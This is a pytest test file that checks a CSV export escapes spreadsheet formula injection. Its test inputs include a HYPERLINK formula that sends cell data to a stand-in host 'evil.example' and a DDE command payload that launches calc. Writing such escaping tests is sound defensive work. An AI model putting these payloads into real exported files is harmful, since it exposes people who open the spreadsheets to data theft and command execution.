import csv
import io
from decimal import Decimal

import pytest

from assistant.core.csv_export import csv_cell, csv_rows_write


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_text_that_a_spreadsheet_would_evaluate_is_quoted(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Alice", "a=b", "", "2026-01-01 = new year", 5, -5, 1.5, Decimal("-2.50"), None, True]
)
def test_plain_text_and_numbers_are_left_alone(value):
    assert csv_cell(value) == value


def test_every_cell_of_header_and_rows_goes_through_the_escape():
    stream = io.StringIO()

    csv_rows_write(stream, header=["name", "=cmd"], rows=[["=1+1", -3], [{"a": 1}, "@x"]])

    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [
        ["name", "'=cmd"],
        ["'=1+1", "-3"],
        ["{'a': 1}", "'@x"],
    ]
